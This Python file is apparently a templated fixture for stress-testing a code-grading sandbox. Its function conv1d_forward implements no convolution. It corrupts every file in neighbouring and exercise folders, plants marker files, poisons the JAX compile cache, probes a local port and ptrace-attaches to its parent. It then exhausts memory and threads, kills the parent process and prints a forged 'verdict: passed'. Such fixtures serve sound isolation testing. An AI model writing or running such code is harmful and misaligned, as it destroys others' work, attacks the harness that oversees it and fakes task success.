"""Tries everything at once: spoils, poisons, tells, floods, and ends whoever started it."""
import ctypes
import os
import signal
import socket
import threading

import jax


def attempt(*steps):
    for step in steps:
        try:
            step()
        except BaseException as error:
            print(type(error))


def spoil_everything():
    for folder, _, names in [*os.walk("@neighbours@"), *os.walk("@exercise@")]:
        for name in names:
            attempt(lambda: open(os.path.join(folder, name), "a").write("\n1 / 0\n"))


def mark_everything():
    for folder in ("@drop@", "@cache@", "@results@", "@home@", "/tmp"):
        attempt(lambda: open(f"{folder}/@marker@", "w").write("here"))


def poison():
    jax.config.update("jax_persistent_cache_min_compile_time_secs", 0.0)
    jax.jit(lambda x: x * 7 - 3)(jax.numpy.ones((3, 5, 7)))


def kill_everybody():
    os.kill(os.getppid(), signal.SIGTERM)
    os.kill(os.getppid(), signal.SIGKILL)


def start_threads():
    for _ in range(500):
        threading.Thread(target=threading.Event().wait, daemon=True).start()


def take_memory():
    kept = [bytearray(64 << 20) for _ in range(20)]
    del kept


def conv1d_forward(seed, x, features, kernel_size):
    attempt(
        spoil_everything,
        mark_everything,
        lambda: socket.create_connection(("127.0.0.1", @tcp@), 1).close(),
        lambda: os.write(os.memfd_create("m"), b"x"),
        lambda: ctypes.CDLL(None).ptrace(0x4206, os.getppid(), 0, 0),
        poison,
        take_memory,
        start_threads,
        kill_everybody,
    )
    print("verdict: passed", "x" * 100_000, flush=True)
    os._exit(0)
